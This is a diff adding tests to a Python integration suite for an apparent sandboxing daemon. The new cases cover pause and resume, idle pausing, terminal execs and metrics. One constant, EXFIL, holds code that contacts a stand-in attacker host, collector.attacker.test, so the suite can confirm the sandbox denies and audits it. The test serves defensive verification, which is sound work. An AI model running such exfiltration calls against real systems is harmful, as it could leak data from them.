@@ -7,7 +7,12 @@ usage: run_serve.py AIRLOCK PROBE [CASE-SUBSTRING...]
 Covers live sandboxes (the seed scenario through the API with its
 exfiltration denied in the audit stream, a memory limit hit in one exec,
 delete leaving nothing on the host; the file API's hostile paths; streamed
-and background execs, reconnects, signals, max_execs; two bearer-token
+and background execs, reconnects, signals, max_execs; pause and resume
+(no CPU while paused, judged from the host's /proc; an exec's timeout
+leaving the pause out), an idle pause resumed by the next exec or file
+operation; an exec with a terminal (bash -i typed to, stty size after a
+resize, the re-encoding on and off); the metrics after a known sequence
+of execs; two bearer-token
 identities; two sandboxes' secrets kept apart in their gateways' memory),
 health and metrics, one-shot runs (output, exit code, stdin, a
 limit hit, a refusal by the operator policy with its reasons), hostile
@@ -29,7 +34,7 @@ import sys
 import time
 
 from harness import (Env, Suite, TempDir, expect, kill_pid, run_cgroup_dirs, wait_for,
-                     children_of)
+                     children_of, own_mount_ns)
 
 suite = Suite()
 case = suite.case
@@ -209,8 +214,9 @@ def hostile_requests(e):
     """Malformed JSON (400 naming line and column), a body that is not an
     object, a bad field (400 naming it), no command, an oversized body
     (413), an oversized head (431), an unknown route (404) and method (405),
-    an unknown sandbox id (404), sandbox creation (501 in this build): each
-    a clear 4xx/5xx, and the daemon still answers health after all."""
+    an unknown sandbox id (404), a sandbox request with a bad lifetime or a
+    body that is not an object (400): each a clear 4xx, and the daemon
+    still answers health after all."""
     with Daemon(e) as d:
         st, doc = d.json("POST", "/v1/run", '{"argv": [')
         expect_error(st, doc, 400, "not JSON", "line 1")
@@ -286,18 +292,21 @@ def stalled_clients_and_capacity(e):
             for s in held:
                 s.close()
         wait_for(lambda: d.json("GET", "/v1/health")[0] == 200, 5)
-        # One sandbox at a time: a run holding it, a second one refused.
+        # One sandbox at a time: a run holding it (for as long as its client
+        # stays, however slow the machine), a second one refused. (That a
+        # leaving client's run is cancelled is leaving_client_and_sigterm's.)
         slow_run = subprocess.Popen(
             ["curl", "-s", "--unix-socket", d.sock, "-XPOST", "-d",
-             json.dumps({"argv": ["/bin/sleep", "3"]}), "http://x/v1/run"],
+             json.dumps({"argv": ["/bin/sleep", "60"]}), "http://x/v1/run"],
             stdout=subprocess.PIPE)
         try:
-            wait_for(lambda: b'state="running"} 1' in d.request("GET", "/metrics")[2], 10)
+            expect(wait_for(lambda: b'state="running"} 1' in d.request("GET", "/metrics")[2],
+                            30), "the holding run never ran")
             st, doc = d.json("POST", "/v1/run", {"argv": ["/bin/true"]})
             expect_error(st, doc, 429, "--max-sandboxes")
         finally:
-            out, _ = slow_run.communicate(30)
-        expect(json.loads(out)["exit_code"] == 0, "the held run: %r" % out[:200])
+            kill_pid(slow_run.pid)
+            slow_run.communicate(30)
 
 
 def descendants(pid):
@@ -328,7 +337,12 @@ def sigkill_leaves_nothing(e):
                                         if os.path.exists("/proc/%d/cmdline" % p)), 10),
                    "the run did not start")
             pids = descendants(d.p.pid)
-            ours = run_cgroup_dirs() - before
+            # A run's cgroup is named PID-STARTTIME-N after the process
+            # that made it (here the daemon's session process): cgroups of
+            # other airlocks on this host meanwhile are not this daemon's.
+            mine = tuple("%d-" % p for p in pids)
+            ours = {c for c in run_cgroup_dirs() - before
+                    if os.path.basename(c).startswith(mine)}
             expect(ours, "no run cgroup seen for the daemon's run")
             kill_pid(d.p.pid)
             d.p.wait(10)
@@ -546,10 +560,10 @@ def sandbox_hostile_files(e):
     the way, at the end, for reading and writing), an upload over the cap:
     each a 4xx naming the problem, nothing written outside; uploads belong
     to the sandbox's user; mkdir, list and remove; bad exec requests and
-    unknown exec ids; idle_action pause refused."""
+    unknown exec ids; a bad idle_action refused."""
     with Daemon(e) as d:
-        st, doc = d.json("POST", "/v1/sandboxes", {"idle_action": "pause"})
-        expect_error(st, doc, 400, "pause")
+        st, doc = d.json("POST", "/v1/sandboxes", {"idle_action": 1})
+        expect_error(st, doc, 400, "idle_action")
         sid = sandbox(d)
         f = "/v1/sandboxes/%s/files/" % sid
         r = run(d, sid, {"argv": ["/bin/sh", "-c",
@@ -814,8 +828,282 @@ def sandbox_secrets_apart(e):
             d.json("DELETE", "/v1/sandboxes/" + sid)
 
 
+def proc_cpu_ticks(pid):
+    """utime + stime of a process, in clock ticks, from the host's /proc."""
+    with open("/proc/%d/stat" % pid) as f:
+        fields = f.read().rsplit(")", 1)[1].split()
+    return int(fields[11]) + int(fields[12])
+
+
+def spinner_pid(d, marker):
+    """The host pid of the exec whose command line holds marker."""
+    for p in descendants(d.p.pid):
+        try:
+            if marker.encode() in open("/proc/%d/cmdline" % p, "rb").read():
+                return p
+        except OSError:
+            pass
+    return None
+
+
+@case
+def sandbox_pause_resume(e):
+    """POST pause freezes the sandbox: a spinning exec's CPU time, read
+    from the host's /proc, does not move while it is paused and moves
+    again after resume; the sandbox shows state paused (by request) and
+    its lifetime does not run down; a new exec and a file operation get
+    409 naming it; the metrics' gauge counts it paused; the exec's 3 s
+    timeout leaves the pause out (it ends as timeout after more than 3 s
+    plus the pause, its duration_ms near 3 s); run.pause and run.resume
+    are in the audit stream."""
+    with Daemon(e) as d:
+        sid = sandbox(d, {"max_lifetime": 300})
+        base = "/v1/sandboxes/%s" % sid
+        marker = "spin-" + os.urandom(4).hex()
+        t0 = time.monotonic()
+        st, doc = d.json("POST", base + "/exec", {
+            "argv": ["/bin/sh", "-c", "while :; do :; done # " + marker],
+            "timeout": 3, "background": True})
+        expect(st == 201, "spinner: %d %s" % (st, doc))
+        eid = doc["exec_id"]
+        expect(wait_for(lambda: spinner_pid(d, marker), 5), "the spinner's pid not found")
+        pid = spinner_pid(d, marker)
+        time.sleep(0.3)
+        st, doc = d.json("POST", base + "/pause")
+        expect(st == 200 and doc["state"] == "paused" and doc["paused_by"] == "request",
+               "pause: %d %s" % (st, doc))
+        t_paused = time.monotonic()
+        left = doc["lifetime_left_ms"]
+        c0 = proc_cpu_ticks(pid)
+        time.sleep(1.5)
+        c1 = proc_cpu_ticks(pid)
+        expect(c1 - c0 <= 1, "paused, the spinner used %d ticks of CPU" % (c1 - c0))
+        st, doc = d.json("GET", base)
+        expect(doc["state"] == "paused" and doc["lifetime_left_ms"] == left,
+               "paused: lifetime left %s, then %s" % (left, doc))
+        st, doc = d.json("POST", base + "/exec", {"argv": ["/bin/true"], "wait": True})
+        expect_error(st, doc, 409, "paused", sid)
+        st, doc = d.json("GET", base + "/files/tmp")
+        expect_error(st, doc, 409, "paused")
+        st, doc = d.json("POST", base + "/pause")
+        expect(st == 200 and doc["state"] == "paused", "pause again: %d %s" % (st, doc))
+        st, _, text = d.request("GET", "/metrics")
+        for line in ('airlock_sandboxes{state="paused"} 1',
+                     'airlock_sandboxes{state="running"} 0'):
+            expect(line in text.decode().splitlines(), "no %r in the metrics" % line)
+        time.sleep(0.5)
+        st, doc = d.json("POST", base + "/resume")
+        pause_s = time.monotonic() - t_paused
+        expect(st == 200 and doc["state"] == "running" and "paused_by" not in doc,
+               "resume: %d %s" % (st, doc))
+        c2 = proc_cpu_ticks(pid)
+        expect(wait_for(lambda: proc_cpu_ticks(pid) > c2, 3),
+               "resumed, the spinner used no CPU")
+        st, _, data = d.request("GET", base + "/execs/" + eid)
+        wall = time.monotonic() - t0
+        res = ndjson(data)[-1]["result"]
+        expect(res["reason"] == "timeout", "the spinner's end: %s" % res)
+        expect(wall >= 3 + pause_s - 0.2, "it ended after %.1f s, with a %.1f s pause and a "
+               "3 s timeout" % (wall, pause_s))
+        expect(2900 <= res["duration_ms"] < 3000 + 1000 * pause_s / 2,
+               "duration_ms %d with a %.1f s pause" % (res["duration_ms"], pause_s))
+        st, _, audit = d.request("GET", base + "/audit")
+        events = [x["event"] for x in ndjson(audit)]
+        expect("run.pause" in events and "run.resume" in events, "audit: %s" % events)
+        st, doc = d.json("POST", base + "/pause")
+        st, doc = d.json("DELETE", base)  # a paused sandbox is deleted too
+        expect(st == 200 and doc["deleted"], "delete while paused: %d %s" % (st, doc))
+        expect(wait_for(lambda: not os.path.exists("/proc/%d" % pid), 5),
+               "the spinner is left after delete")
+
+
+@case
+def sandbox_idle_pause(e):
+    """"idle_action": "pause" with a 1 s idle timeout: once idle the sandbox
+    is paused (by idle), not ended; the next exec resumes it and runs; idle
+    again, a file upload resumes it; an unknown idle_action is a 400."""
+    with Daemon(e) as d:
+        st, doc = d.json("POST", "/v1/sandboxes", {"idle_action": "sleep"})
+        expect_error(st, doc, 400, "idle_action")
+        sid = sandbox(d, {"idle_timeout": 1, "idle_action": "pause", "max_lifetime": 300})
+        base = "/v1/sandboxes/%s" % sid
+
+        def paused_by_idle():
+            st, doc = d.json("GET", base)
+            return st == 200 and doc["state"] == "paused" and doc.get("paused_by") == "idle"
+        expect(wait_for(paused_by_idle, 5), "not paused while idle: %s" % (d.json("GET", base),))
+        r = run(d, sid, {"argv": ["/bin/echo", "awake"]})
+        expect(r["stdout"] == "awake\n", "the exec after the idle pause: %s" % r)
+        st, doc = d.json("GET", base)
+        expect(doc["state"] == "running", "after the exec: %s" % doc)
+        expect(wait_for(paused_by_idle, 5), "not paused while idle again")
+        st, doc = d.json("PUT", base + "/files/tmp/x", b"data")
+        expect(st == 201, "upload to an idle-paused sandbox: %d %s" % (st, doc))
+        st, doc = d.json("GET", base)
+        expect(doc["state"] == "running", "after the upload: %s" % doc)
+        d.json("DELETE", base)
+
+
+def read_events_until(r, pred, timeout=20):
+    """NDJSON events from a streamed answer r until pred(all stdout so far)
+    or the end; the text."""
+    out, end = "", time.monotonic() + timeout
+    while time.monotonic() < end:
+        line = r.readline()
+        if not line:
+            break
+        ev = json.loads(line)
+        if ev["type"] == "stdout":
+            out += ev["data"]
+        if ev["type"] == "end" or pred(out):
+            return out, ev
+    return out, None
+
+
+@case
+def sandbox_tty_exec(e):
+    """An exec with a terminal: bash -i streamed, typed to through
+    execs/{eid}/stdin (its answers read back from the stream), `stty
+    size` gives the size asked for and, after POST resize, the new one;
+    exit ends it with code 0. The re-encoding drops a cursor position
+    query from the output; "ttyfilter": false keeps it. resize of an exec
+    without a terminal is a 409, ttyfilter without tty a 400."""
+    with Daemon(e) as d:
+        sid = sandbox(d, {"max_lifetime": 300})
+        base = "/v1/sandboxes/%s" % sid
+        c = UnixHTTP(d.sock, 30)
+        try:
+            c.request("POST", base + "/exec", body=json.dumps({
+                "argv": ["/bin/bash", "--norc", "--noprofile", "-i"], "env": {"PS1": "$ "},
+                "tty": True, "rows": 30, "cols": 100}))
+            r = c.getresponse()
+            expect(r.status == 200, "tty exec: %d" % r.status)
+            start = json.loads(r.readline())
+            eid = start["exec_id"]
+
+            def typed(text):
+                st, doc = d.json("POST", base + "/execs/%s/stdin" % eid, text.encode())
+                expect(st == 200, "stdin: %d %s" % (st, doc))
+            typed("stty size; echo $((6*7))\n")
+            out, _ = read_events_until(r, lambda o: "\n42" in o)
+            expect("30 100" in out and "\n42" in out, "bash -i answered: %r" % out)
+            st, doc = d.json("POST", base + "/execs/%s/resize" % eid, {"rows": 40, "cols": 120})
+            expect(st == 200 and doc["rows"] == 40, "resize: %d %s" % (st, doc))
+            typed("stty size\n")
+            out, _ = read_events_until(r, lambda o: "40 120" in o)
+            expect("40 120" in out, "after the resize: %r" % out)
+            typed("exit 0\n")
+            out, end = read_events_until(r, lambda o: False)
+            expect(end and end["type"] == "end" and end["result"]["exit_code"] == 0,
+                   "the end: %s %r" % (end, out))
+        finally:
+            c.close()
+        cpr = "printf 'a\\033[6nb'"
+        r = run(d, sid, {"argv": ["/bin/sh", "-c", cpr], "tty": True})
+        expect(r["stdout"] == "ab", "filtered: %r" % r["stdout"])
+        r = run(d, sid, {"argv": ["/bin/sh", "-c", cpr], "tty": True, "ttyfilter": False})
+        expect(r["stdout"] == "a\x1b[6nb", "not filtered: %r" % r["stdout"])
+        st, doc = d.json("POST", base + "/exec", {"argv": ["/bin/cat"], "background": True})
+        st, doc = d.json("POST", base + "/execs/%s/resize" % doc["exec_id"],
+                         {"rows": 10, "cols": 10})
+        expect_error(st, doc, 409, "no terminal")
+        st, doc = d.json("POST", base + "/exec", {"argv": ["/bin/true"], "ttyfilter": False})
+        expect_error(st, doc, 400, "ttyfilter")
+        d.json("DELETE", base)
+
+
+def metric(text, line_start):
+    for line in text.splitlines():
+        if line.startswith(line_start + " "):
+            return float(line.split()[-1])
+    return None
+
+
+def denial_kind(ev):
+    """A denial's kind as the daemon counts it (docs/api.md), or None."""
+    if ev["event"] == "syscall.denied":
+        return "syscall"
+    if ev["event"] == "secret.misuse":
+        return "secret"
+    if ev.get("decision") == "cut":
+        return "cut"
+    if ev.get("decision") == "deny":
+        return "dns" if ev["event"] == "net.dns" else "network"
+    return None
+
+
+EXFIL = """
+import urllib.request
+try:
+    urllib.request.urlopen('http://collector.attacker.test:8099/x', timeout=5)
+except Exception as e:
+    print(type(e).__name__)
+"""
+
+
+@case
+def metrics_after_known_execs(e):
+    """The metrics after a known sequence in a fresh daemon: two execs
+    that exited (one with code 3), one ended by its 0.5 s timeout, one
+    refused a connection: execs_total by reason, limit_hits timeout 1,
+    the exec latency histogram's count 4, and denials_total by kind equal
+    to the sandbox's own audit lines of denials; then a sandbox whose
+    lifetime runs out counts as a second timeout hit."""
+    with Daemon(e) as d:
+        sid = sandbox(d, {"network": {"allow": ["analysis.internal:9"],
+                                      "hosts": {"analysis.internal": "127.0.0.1"}},
+                          "max_lifetime": 300})
+        run(d, sid, {"argv": ["/bin/true"]})
+        r = run(d, sid, {"argv": ["/bin/sh", "-c", "exit 3"]})
+        expect(r["exit_code"] == 3, "exit 3: %s" % r)
+        r = run(d, sid, {"argv": ["/bin/sleep", "5"], "timeout": 0.5})
+        expect(r["reason"] == "timeout", "timeout: %s" % r)
+        r = run(d, sid, {"code": EXFIL, "language": "python"})
+        expect(r["denials"], "no denial: %s" % r)
+        kinds = {}
+        st, _, audit = d.request("GET", "/v1/sandboxes/%s/audit" % sid)
+        for ev in ndjson(audit):
+            k = denial_kind(ev)
+            if k:
+                kinds[k] = kinds.get(k, 0) + 1
+        expect(kinds, "no denial in the audit stream")
+
+        def text():
+            return d.request("GET", "/metrics")[2].decode()
+
+        def denials_match():
+            t = text()
+            return all(metric(t, 'airlock_denials_total{kind="%s"}' % k) == kinds.get(k, 0)
+                       for k in ("network", "dns", "cut", "secret", "syscall"))
+        expect(wait_for(denials_match, 5), "denials by kind %s; metrics:\n%s" % (kinds, text()))
+        t = text()
+        for name, want in (('airlock_execs_total{reason="exited"}', 3),
+                           ('airlock_execs_total{reason="timeout"}', 1),
+                           ('airlock_execs_total{reason="memory"}', 0),
+                           ('airlock_limit_hits_total{reason="timeout"}', 1),
+                           ('airlock_exec_seconds_count', 4),
+                           ('airlock_exec_seconds_bucket{le="+Inf"}', 4),
+                           ('airlock_sandboxes{state="running"}', 1),
+                           ('airlock_sandboxes{state="paused"}', 0)):
+            expect(metric(t, name) == want, "%s is %s, not %s:\n%s"
+                   % (name, metric(t, name), want, t))
+        expect(metric(t, "airlock_exec_seconds_sum") >= 0.5, "exec seconds sum:\n%s" % t)
+        d.json("DELETE", "/v1/sandboxes/" + sid)
+        # A sandbox whose 1 s lifetime runs out is a timeout hit too (a
+        # DELETE is none).
+        short = sandbox(d, {"lifetime": 1})
+        expect(wait_for(lambda: d.json("GET", "/v1/sandboxes/" + short)[0] == 404, 10),
+               "the 1 s sandbox is still there")
+        t = text()
+        expect(metric(t, 'airlock_limit_hits_total{reason="timeout"}') == 2,
+               "limit hits after the lifetime ran out:\n%s" % t)
+
+
 if __name__ == "__main__":
     if len(sys.argv) < 3:
         print("usage: %s AIRLOCK PROBE [CASE-SUBSTRING...]" % sys.argv[0], file=sys.stderr)
         sys.exit(2)
+    # The mount-table checks count this script's daemons only: mounts made
+    # elsewhere on the host meanwhile are not seen.
+    own_mount_ns()
     sys.exit(suite.run(Env(sys.argv[1], sys.argv[2]), only=sys.argv[3:]))
